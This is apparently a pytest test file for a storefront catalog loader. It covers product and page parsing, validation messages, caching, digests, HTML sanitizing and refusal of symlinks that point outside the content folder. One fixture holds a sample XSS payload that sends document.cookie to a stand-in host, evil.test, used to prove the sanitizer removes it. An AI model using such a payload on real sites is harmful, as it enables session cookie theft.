"""Catalog loading: folders, pages, drafts, ordering, categories, digests and the warm cache."""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import pytest
from PIL import Image as PILImage

from storefront_catalog import loader as loader_module
from storefront_catalog.loader import load_catalog


def photo(path: Path, colour=(40, 90, 200)) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    PILImage.new("RGB", (16, 12), colour).save(path, "JPEG")


def product(root: Path, slug: str, *, sku: str | None = None, category: str = "Pens",
            extra: str = "", body: str = "About it.\n", title: str | None = None) -> Path:
    folder = root / "content" / "products" / slug
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.md").write_text(
        f"---\ntitle: {title or slug.title()}\nsku: {sku or slug.upper()}\nbrand: Voltaro\n"
        f"category: {category}\nsummary: Good.\nprice: {{USD: \"9.99\"}}\n"
        f"images: [{{file: front.jpg, angle: front}}]\n{extra}---\n{body}"
    )
    if not (folder / "front.jpg").exists():
        photo(folder / "front.jpg")
    return folder


def page(root: Path, name: str, text: str) -> Path:
    path = root / "content" / "pages" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def load(root: Path, cache: dict | None = None):
    return load_catalog(root / "content", currency="USD", root=root, cache=cache)


def test_sorting_categories_and_drafts(tmp_path):
    product(tmp_path, "b-pen", category="Writing/Pens", extra="order: 2\n")
    product(tmp_path, "a-pen", category="Writing/Pens", extra="order: 2\n", title="Alpha")
    product(tmp_path, "first-pen", category="Writing/Pens", extra="order: 1\n")
    product(tmp_path, "charger", category="Charging")
    product(tmp_path, "pad", category="Writing")
    product(tmp_path, "secret", category="Secret/Stuff", extra="draft: true\n")
    catalog, problems = load(tmp_path)
    assert problems == []
    assert [p.slug for p in catalog.products] == ["charger", "pad", "first-pen", "a-pen", "b-pen"]
    assert [p.slug for p in catalog.drafts] == ["secret"]
    assert [c.path for c in catalog.iter_categories()] == ["charging", "writing", "writing/pens"]
    writing = catalog.category("writing")
    assert writing.names == ("Writing",) and writing.children[0].names == ("Writing", "Pens")
    assert [p.slug for p in writing.products] == ["pad"]
    assert [p.slug for p in writing.all_products()] == ["pad", "first-pen", "a-pen", "b-pen"]
    assert catalog.category("secret") is None


def test_pages_sorted_drafts_hidden_translations_attached(tmp_path):
    page(tmp_path, "shipping.md", "---\ntitle: Shipping\norder: 1\n---\nWe ship.\n")
    page(tmp_path, "about.md", "---\ntitle: About us\norder: 1\nsummary: Who we are.\n"
                               "seo: {title: About Voltaro}\nnoindex: false\n---\nHello.\n")
    page(tmp_path, "returns.md", "---\ntitle: Returns\n---\nThirty days.\n")
    page(tmp_path, "about.de.md", "---\ntitle: Über uns\n---\nHallo.\n")
    page(tmp_path, "wip.md", "---\ntitle: Soon\ndraft: true\n---\nLater.\n")
    page(tmp_path, "notes.txt", "not a page")
    catalog, problems = load(tmp_path)
    assert problems == []
    assert [p.slug for p in catalog.pages] == ["returns", "about", "shipping"]
    about = catalog.pages[1]
    assert (about.title, about.summary, about.seo_title) == ("About us", "Who we are.",
                                                             "About Voltaro")
    assert about.body_html == "<p>Hello.</p>"
    assert about.lang == "en" and list(about.translations) == ["de"]  # merged per market


def test_page_problems(tmp_path):
    page(tmp_path, "About Us.md", "---\ntitel: About\n---\nHi.\n")
    _catalog, problems = load(tmp_path)
    assert [str(p) for p in problems] == [
        'content/pages/About Us.md: the file name "About Us.md" cannot be a web address; rename '
        'it to "about-us.md"',
        "content/pages/About Us.md: title: is missing; this field is required",
        'content/pages/About Us.md:2: titel: unknown field; did you mean "title"?',
    ]


def test_product_translations_are_attached_not_merged(tmp_path):
    folder = product(tmp_path, "pen")
    (folder / "index.de.md").write_text("---\ntitle: Stift\n---\nText.\n")
    catalog, problems = load(tmp_path)
    assert problems == [] and catalog.products[0].title == "Pen"  # index.md's text
    assert catalog.products[0].translations["de"].title == "Stift"  # localized per market


def test_folder_problems(tmp_path):
    (tmp_path / "content/products/empty-folder").mkdir(parents=True)
    photo(tmp_path / "content/products/no-index/front.jpg")
    product(tmp_path, "Bad Name", sku="BAD-1")
    blank = tmp_path / "content/products/blank"
    blank.mkdir()
    (blank / "index.md").write_text("---\n---\nText\n")
    product(tmp_path, "no-body", body="")
    catalog, problems = load(tmp_path)
    assert [(p.severity, str(p)) for p in problems] == [
        ("error", 'content/products/Bad Name: the folder name "Bad Name" cannot be a web '
                  'address; rename the folder to "bad-name"'),
        ("error", "content/products/blank/index.md:1: the front matter is empty; add the fields "
                  "between the --- lines (title, sku, ...)"),
        ("error", "content/products/empty-folder: this product folder has no index.md; add one "
                  "(for example with `storefront new-product`) or remove the folder"),
        ("warning", "content/products/no-body/index.md:9: has no description below the front "
                    "matter; write a few sentences in Markdown after the closing ---"),
        ("error", "content/products/no-index: this product folder has no index.md; add one (for "
                  "example with `storefront new-product`) or remove the folder"),
    ]
    assert [p.slug for p in catalog.products] == ["no-body"]


def test_not_utf8(tmp_path):
    folder = product(tmp_path, "pen")
    (folder / "index.md").write_bytes(b"---\ntitle: Caf\xe9\n---\n")
    _catalog, problems = load(tmp_path)
    assert [str(p) for p in problems] == [
        "content/products/pen/index.md:2: is not UTF-8 text; save the file as UTF-8 in your editor"
    ]


def test_missing_content_folders_give_empty_catalog(tmp_path):
    (tmp_path / "content").mkdir()
    catalog, problems = load(tmp_path)
    assert (catalog.products, catalog.pages, catalog.categories, problems) == ([], [], [], [])


def test_digest_is_stable_and_follows_text_and_photos(tmp_path):
    folder = product(tmp_path, "pen")
    first = load(tmp_path)[0].products[0].digest
    assert len(first) == 64 and int(first, 16) >= 0
    assert load(tmp_path)[0].products[0].digest == first
    photo(folder / "front.jpg", colour=(200, 0, 0))
    second = load(tmp_path)[0].products[0].digest
    assert second != first
    photo(folder / "unused.jpg", colour=(0, 200, 0))  # not referenced: digest unchanged
    assert load(tmp_path)[0].products[0].digest == second
    text = (folder / "index.md").read_text()
    (folder / "index.md").write_text(text.replace("About it.", "About it!"))
    assert load(tmp_path)[0].products[0].digest not in (first, second)


def count_calls(monkeypatch, name: str) -> list[int]:
    calls = [0]
    real = getattr(loader_module, name)

    def counting(*args, **kwargs):
        calls[0] += 1
        return real(*args, **kwargs)

    monkeypatch.setattr(loader_module, name, counting)
    return calls


def test_warm_load_reuses_cache_without_reparsing(tmp_path, monkeypatch):
    for i in range(3):
        product(tmp_path, f"pen-{i}")
    page(tmp_path, "about.md", "---\ntitle: About\n---\nHi.\n")
    parses = count_calls(monkeypatch, "parse_front_matter")
    validations = count_calls(monkeypatch, "validate_product")
    cache: dict = {}
    cold, _ = load(tmp_path, cache)
    assert (parses[0], validations[0]) == (4, 3)

    cache = pickle.loads(pickle.dumps(cache))  # the caller persists it between builds
    warm, problems = load(tmp_path, cache)
    assert problems == []
    assert (parses[0], validations[0]) == (4, 3)  # nothing re-read
    assert warm.products == cold.products and warm.pages == cold.pages

    index = tmp_path / "content/products/pen-1/index.md"
    index.write_text(index.read_text().replace("About it.", "Changed."))
    os.utime(index, ns=(1, 1))  # a different mtime even on coarse file systems
    changed, _ = load(tmp_path, cache)
    assert (parses[0], validations[0]) == (5, 4)  # only the changed bundle
    assert "Changed." in changed.products[1].body_html


def test_cache_keeps_reporting_problems_and_forgets_deleted_files(tmp_path):
    product(tmp_path, "pen", extra="prise: 1\n")
    gone = product(tmp_path, "gone", sku="G-1")
    cache: dict = {}
    first = load(tmp_path, cache)[1]
    assert len(first) == 1 and "prise" in str(first[0])
    size = len(cache)
    for name in os.listdir(gone):
        os.remove(gone / name)
    gone.rmdir()
    again = load(tmp_path, cache)[1]
    assert [str(p) for p in again] == [str(p) for p in first]
    assert len(cache) < size


def test_photo_not_rehashed_when_unchanged(tmp_path, monkeypatch):
    product(tmp_path, "pen")
    cache: dict = {}
    load(tmp_path, cache)
    # touch index.md only: the bundle is re-validated but the photo's hash comes from the cache
    index = tmp_path / "content/products/pen/index.md"
    os.utime(index, ns=(2, 2))
    opened: list[str] = []
    real_open = Path.open

    def spy(self, *args, **kwargs):
        opened.append(self.name)
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", spy)
    load(tmp_path, cache)
    assert "front.jpg" not in opened


@pytest.mark.parametrize("currency", ["USD", "EUR"])
def test_cache_is_per_store_currency(tmp_path, currency):
    product(tmp_path, "pen")
    cache: dict = {}
    load(tmp_path, cache)
    _catalog, problems = load_catalog(tmp_path / "content", currency=currency, root=tmp_path,
                                      cache=cache)
    assert bool(problems) == (currency == "EUR")


# -- raw HTML in descriptions -----------------------------------------------------------------
PASTED = ('Made of steel.\n\n<script>new Image().src="//evil.test/?"+document.cookie</script>\n\n'
          '<img src="front.jpg" onerror="alert(1)">\n')


def test_raw_html_is_sanitized_with_one_warning_naming_the_file(tmp_path):
    folder = product(tmp_path, "pen", body=PASTED)
    (folder / "index.de.md").write_text('---\ntitle: Stift\n---\n<a href="javascript:x()">Hi</a>\n')
    page(tmp_path, "about.md", '---\ntitle: About\n---\n<p onclick="x()">Hi</p>\n')
    catalog, problems = load(tmp_path)
    pen = catalog.products[0]
    assert "script" not in pen.body_html and "cookie" not in pen.body_html
    assert "onerror" not in pen.body_html and '<img src="front.jpg">' in pen.body_html
    assert "javascript" not in pen.translations["de"].body_html
    assert catalog.pages[0].body_html == "<p>Hi</p>"
    assert [(p.severity, str(p)) for p in problems] == [
        ("warning", "content/pages/about.md: text: raw HTML is sanitized; removed onclick=; set "
                    "STORE_TRUST_HTML = True in pelicanconf.py to publish it as written"),
        ("warning", 'content/products/pen/index.de.md: description: raw HTML is sanitized; '
                    'removed href="javascript:…"; set STORE_TRUST_HTML = True in pelicanconf.py '
                    "to publish it as written"),
        ("warning", "content/products/pen/index.md: description: raw HTML is sanitized; removed "
                    "<script>, onerror=; set STORE_TRUST_HTML = True in pelicanconf.py to "
                    "publish it as written"),
    ]


def test_trusting_raw_html_re_renders_cached_descriptions(tmp_path):
    from storefront_catalog.sanitize import HtmlPolicy

    product(tmp_path, "pen", body=PASTED)
    cache: dict = {}
    clean, warned = load(tmp_path, cache)
    trusted, quiet = load_catalog(tmp_path / "content", currency="USD", root=tmp_path,
                                  cache=cache, html_policy=HtmlPolicy(trust=True))
    assert "<script>" not in clean.products[0].body_html and len(warned) == 1
    assert "<script>" in trusted.products[0].body_html and quiet == []
    # pages and feeds are cached under the product's digest: it changes with the policy
    assert trusted.products[0].digest != clean.products[0].digest
    assert load(tmp_path, cache)[0].products[0].digest == clean.products[0].digest


# -- links out of the content folder ----------------------------------------------------------
def test_photo_linked_from_outside_the_content_folder_is_refused(tmp_path):
    elsewhere = tmp_path / "home" / "someone"
    photo(elsewhere / "holiday.jpg")
    photo(elsewhere / "album" / "side.jpg")
    folder = product(tmp_path, "pen", extra="  - {file: back.jpg, angle: back}\n"
                                            "  - {file: photos/side.jpg, angle: side}\n"
                                            "  - {file: shared.jpg, angle: detail}\n")
    index = folder / "index.md"
    index.write_text(index.read_text().replace("images: [{file: front.jpg, angle: front}]",
                                               "images:\n  - {file: front.jpg, angle: front}"))
    os.symlink(elsewhere / "holiday.jpg", folder / "back.jpg")
    os.symlink(elsewhere / "album", folder / "photos")
    # a link inside the content folder is fine
    other = product(tmp_path, "charger")
    os.symlink(other / "front.jpg", folder / "shared.jpg")
    catalog, problems = load(tmp_path)
    assert [str(p) for p in problems] == [
        f'content/products/pen/index.md:10: images[2].file: "back.jpg" is a link to a file '
        f"outside the content folder ({elsewhere / 'holiday.jpg'}); copy the photo into the "
        "product folder",
        f'content/products/pen/index.md:11: images[3].file: "photos/side.jpg" is a link to a '
        f'folder ("photos") outside the content folder ({elsewhere / "album"}); copy the photo '
        "into the product folder",
    ]
    assert [p.slug for p in catalog.products] == ["charger"]


def test_text_linked_from_outside_the_content_folder_is_refused(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    outside_bundle = product(elsewhere, "stolen")
    pen = product(tmp_path, "pen")
    (elsewhere / "notes.md").write_text("---\ntitle: Notes\n---\nPrivate.\n")
    os.symlink(elsewhere / "notes.md", pen / "index.de.md")
    os.symlink(outside_bundle, tmp_path / "content/products/stolen")
    cup = tmp_path / "content/products/cup"
    cup.mkdir()
    photo(cup / "front.jpg")
    os.symlink(outside_bundle / "index.md", cup / "index.md")
    page(tmp_path, "about.md", "---\ntitle: About\n---\nHi.\n")
    os.symlink(elsewhere / "notes.md", tmp_path / "content/pages/notes.md")
    catalog, problems = load(tmp_path)
    real = os.path.realpath
    assert [str(p) for p in problems] == [
        f"content/pages/notes.md: is a link to a file outside the content folder "
        f"({real(elsewhere / 'notes.md')}); put the file itself in content/pages/, not a link "
        "to it",
        f"content/products/cup/index.md: is a link to a file outside the content folder "
        f"({real(outside_bundle / 'index.md')}); copy the file into the product folder",
        f"content/products/pen/index.de.md: is a link to a file outside the content folder "
        f"({real(elsewhere / 'notes.md')}); copy the file into the product folder",
        f"content/products/stolen: is a link to a folder outside the content folder "
        f"({real(outside_bundle)}); put the folder itself in content/products/, not a link to "
        "it",
    ]
    assert [p.slug for p in catalog.products] == ["pen"]
    assert catalog.products[0].translations == {}
    assert [p.slug for p in catalog.pages] == ["about"]


def test_links_inside_the_content_folder_and_link_loops_are_fine(tmp_path):
    shared = tmp_path / "content" / "shared-photos"
    photo(shared / "front.jpg")
    pen = tmp_path / "content/products/pen"
    pen.mkdir(parents=True)
    os.symlink(shared / "front.jpg", pen / "front.jpg")
    product(tmp_path, "pen")  # keeps the linked front.jpg
    os.symlink(pen, pen / "loop")  # a folder linked into itself is walked once
    os.symlink(tmp_path / "content/products/pen", tmp_path / "content/products/pen-copy")
    catalog, problems = load(tmp_path)
    assert [str(p) for p in problems] == [  # a linked copy is a second product, as a copy is
        'content/products/pen-copy/index.md:3: sku: SKU "PEN" is already used by sku in '
        "content/products/pen/index.md; every product and variant needs its own SKU"
    ]
    assert catalog.products[0].slug == "pen"
    assert catalog.products[0].images[0].source == pen / "front.jpg"


def test_presentational_html_left_out_is_a_note_not_a_warning(tmp_path):
    """A supplier's <font> and class= are dropped without failing a --strict deploy."""
    product(tmp_path, "pen", body='<p class="lead"><font color="red">Bright</font> pen</p>\n')
    catalog, problems = load(tmp_path)
    assert catalog.products[0].body_html.strip() == "<p>Bright pen</p>"
    assert [(p.severity, p.field) for p in problems] == [("note", "description")]
    assert "removed class=, <font>" in problems[0].message
